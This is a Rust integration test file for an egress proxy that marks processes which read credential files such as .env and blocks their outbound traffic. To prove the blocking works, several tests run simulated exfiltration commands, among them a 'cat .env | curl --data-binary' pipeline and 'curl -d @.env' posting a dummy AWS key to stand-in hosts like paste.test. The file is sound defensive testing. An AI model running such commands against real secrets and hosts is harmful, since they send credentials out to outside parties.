//! Process context end to end: the real proxy, real curl and python
//! clients, credential files read for real. Taint needs fanotify (root);
//! those tests say SKIP without it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::os::unix::process::CommandExt;
use std::process::Command;

use support::*;

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.trim_ascii() == b"0")
}

/// Allowed: web.test (also allowed while tainted), other.test, paste.test.
fn config(extra: &str) -> String {
    format!(
        r#"
[network]
egress_allowlist = ["web.test:*", "other.test:*", "paste.test:*"]
private_destinations = ["127.0.0.0/8"]
[dns]
listen = "127.0.0.1:0"
upstream = []
hosts = {{ "web.test" = ["127.0.0.1"], "other.test" = ["127.0.0.1"], "paste.test" = ["127.0.0.1"], "rule.test" = ["127.0.0.1"] }}
{extra}
"#
    )
}

const TAINT: &str =
    "[context]\ncredential_paths = [\"**/.env\"]\ntaint_window_ms = 1500\ntaint_allowlist = [\"web.test:*\"]\n";

/// curl through the proxy in its own process group (so that a taint of
/// the group never reaches the test harness or other tests).
fn curl_alone(proxy: &Proxy, args: &[&str]) -> (u16, String) {
    curl_status(&curl_command(&proxy.url(), args).process_group(0).output().unwrap())
}

fn secrets() -> tempfile::TempDir {
    // Written before the proxy starts watching: the harness stays untainted.
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".env"), "AWS_SECRET_ACCESS_KEY=not-a-real-secret\n").unwrap();
    dir
}

#[test]
fn a_process_that_read_a_credential_file_reaches_only_the_taint_allowlist() {
    if !is_root() {
        eprintln!("SKIP: credential-file watching uses fanotify, which needs root");
        return;
    }
    let secrets = secrets();
    let env = secrets.path().join(".env");
    let origin = HttpOrigin::start();
    let canary = Canary::start();
    let proxy = Proxy::start(&config(TAINT));
    let other = format!("http://other.test:{}/", origin.port());
    let paste = format!("http://paste.test:{}/", canary.port());
    let data = format!("@{}", env.display());

    // A pipeline, as the very first open of the file since the proxy
    // started: cat reads (and exits at once), curl sends; same group.
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "cat {} | curl -sS --max-time 10 -x {} --data-binary @- -o /dev/null -w '%{{http_code}}' {paste}",
            env.display(),
            proxy.url()
        ))
        .process_group(0)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "403");
    // Another process, untainted, reaches an allowed host.
    let (status, body) = curl_alone(&proxy, &[&other]);
    assert_eq!(status, 200, "{body} {:?}", proxy.decisions());
    // `curl -d @.env` to an allowed host is refused, naming the file.
    let (status, body) = curl_alone(&proxy, &["-d", &data, &other]);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains(".env"), "{body}");
    // To the canary: refused, and nothing reaches it.
    assert_eq!(curl_alone(&proxy, &["-d", &data, &paste]).0, 403);
    canary.assert_untouched();
    // taint_allowlist hosts stay reachable while tainted.
    let (status, body) = curl_alone(&proxy, &["-d", &data, &format!("http://web.test:{}/", origin.port())]);
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("AWS_SECRET_ACCESS_KEY"));

    let entries = proxy.wait_decisions(5);
    for e in &entries {
        assert!(e["pid"].as_u64().is_some(), "{e}");
        assert!(e["exe"].as_str().unwrap_or_default().ends_with("curl"), "{e}");
        let detail = e["detail"].as_str().unwrap_or_default();
        assert!(
            detail.contains("uid=0 ") && detail.contains("ppid=") && detail.contains("cmd=curl"),
            "{e}"
        );
    }
    let denied: Vec<_> = entries.iter().filter(|e| e["decision"] == "deny").collect();
    assert_eq!(denied.len(), 3, "{entries:?}");
    assert!(
        denied
            .iter()
            .all(|e| e["reason"].as_str().unwrap().contains(".env was read"))
    );
}

#[test]
fn the_taint_wears_off_after_the_window() {
    if !is_root() {
        eprintln!("SKIP: credential-file watching uses fanotify, which needs root");
        return;
    }
    let secrets = secrets();
    let origin = HttpOrigin::start();
    let proxy = Proxy::start(&config(TAINT));
    // One long-lived client: reads the secret, is refused, waits out the
    // 1.5 s window, and is allowed again.
    let script = format!(
        r#"
import time, urllib.request, urllib.error
open("{env}").read()
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{"http": "{proxy}"}}))
def get():
    try:
        return opener.open("http://other.test:{port}/", timeout=10).status
    except urllib.error.HTTPError as e:
        return e.code
first = get()
time.sleep(2.0)
print(first, get())
"#,
        env = secrets.path().join(".env").display(),
        proxy = proxy.url(),
        port = origin.port()
    );
    let out = Command::new("python3")
        .arg("-c")
        .arg(script)
        .process_group(0)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "403 200",
        "{}\n{:?}\n{}",
        String::from_utf8_lossy(&out.stderr),
        proxy.decisions(),
        proxy.stderr.lock().unwrap()
    );
    let entries = proxy.wait_decisions(2);
    assert!(
        entries
            .iter()
            .all(|e| e["exe"].as_str().unwrap_or_default().contains("python3")),
        "{entries:?}"
    );
}

#[test]
fn process_rules_extend_the_allowlist_for_one_binary_only() {
    let origin = HttpOrigin::start();
    let curl = std::fs::canonicalize("/usr/bin/curl").unwrap();
    let proxy = Proxy::start(&config(&format!(
        "[[context.process]]\nexe = \"{}\"\negress_allowlist = [\"rule.test:*\"]\n",
        curl.display()
    )));
    let url = format!("http://rule.test:{}/", origin.port());
    assert_eq!(curl_alone(&proxy, &[&url]).0, 200, "curl has the rule");
    let script = format!(
        "import urllib.request, urllib.error\no = urllib.request.build_opener(urllib.request.ProxyHandler({{'http': '{}'}}))\n\
         try:\n    print(o.open('{url}', timeout=10).status)\nexcept urllib.error.HTTPError as e:\n    print(e.code)\n",
        proxy.url()
    );
    let out = Command::new("python3").arg("-c").arg(script).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "403", "python has no rule");
    // A rule pinned to another binary's hash does not apply to curl.
    let pinned = Proxy::start(&config(&format!(
        "[[context.process]]\nexe = \"{}\"\nsha256 = \"{}\"\negress_allowlist = [\"rule.test:*\"]\n",
        curl.display(),
        "0".repeat(64)
    )));
    assert_eq!(curl_alone(&pinned, &[&url]).0, 403);
}

#[test]
fn check_with_a_pid_uses_that_process_context() {
    let secrets = secrets();
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, config(TAINT)).unwrap();
    let mut holder = Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import time\nf = open('{}')\nprint('ready', flush=True)\ntime.sleep(20)",
            secrets.path().join(".env").display()
        ))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(holder.stdout.as_mut().unwrap()), &mut line).unwrap();
    let pid = holder.id().to_string();
    let out = secureops(
        &["check", "-c", cfg.to_str().unwrap(), "--pid", &pid, "other.test:80"],
        dir.path(),
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.starts_with("deny ") && text.contains(".env"), "{text}");
    let out = secureops(
        &["check", "-c", cfg.to_str().unwrap(), "--pid", &pid, "web.test:80"],
        dir.path(),
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "taint_allowlist: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    let _ = holder.kill();
    let _ = holder.wait();
    let mut sleeper = Command::new("sleep").arg("5").spawn().unwrap();
    let out = secureops(
        &[
            "check",
            "-c",
            cfg.to_str().unwrap(),
            "--pid",
            &sleeper.id().to_string(),
            "other.test:80",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
    let _ = sleeper.kill();
    let _ = sleeper.wait();
}
